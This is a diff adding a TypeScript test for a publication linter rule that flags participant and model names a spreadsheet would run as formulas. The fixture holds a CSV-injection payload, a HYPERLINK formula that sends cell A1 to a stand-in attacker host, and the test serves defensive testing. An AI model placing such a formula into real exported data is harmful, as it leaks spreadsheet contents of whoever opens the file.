@@ -117,6 +117,27 @@ describe('the publication linter (spec §7.3): each rule fires on a crafted viol
     expect(codes(i)).toEqual(['LINT_TRACKS_MIXED']);
   });
 
+  it('LINT_FORMULA_TEXT: an agent name or a reference run field a spreadsheet reads as a formula, named with its fix', () => {
+    const doc = craftedDocument({
+      names: { 'p-ada': '=HYPERLINK("http://evil.example/?x="&A1,"open")' },
+      displayNames: new Map([['g-cy', '@cy']]),
+      referenceModel: '-Zephyr',
+    });
+    const findings = lintIndex(input(doc)).filter((f) => f.code === 'LINT_FORMULA_TEXT');
+    expect(findings.map((f) => [f.file, f.where])).toEqual([
+      ['tables/conformite-reference.csv', 'conformite/ref-1: model'],
+      ['tables/conformite-community.csv', 'conformite/p-ada: agent'],
+      ['tables/generique-community.csv', 'generique/g-cy: agent'],
+    ]);
+    expect(findings[1]!.message).toContain('proveit participant rename --season 1 --participant p-ada');
+    expect(findings[0]!.message).toContain('proveit participant reference --season 1 --participant ref-1');
+    const renamed = craftedDocument({
+      names: { 'p-ada': '=HYPERLINK("http://evil.example/?x="&A1,"open")' },
+      displayNames: new Map([['p-ada', 'Agent A']]),
+    });
+    expect(codes(input(renamed))).toEqual([]);
+  });
+
   it('LINT_SECRET: a known secret value, a private key block, an API key or a season token in any file; the value is never printed', () => {
     const salt = 'ab'.repeat(32);
     const withSalt = input(craftedDocument({ displayNames: new Map([['p-fay', `Fay ${salt}`]]) }));
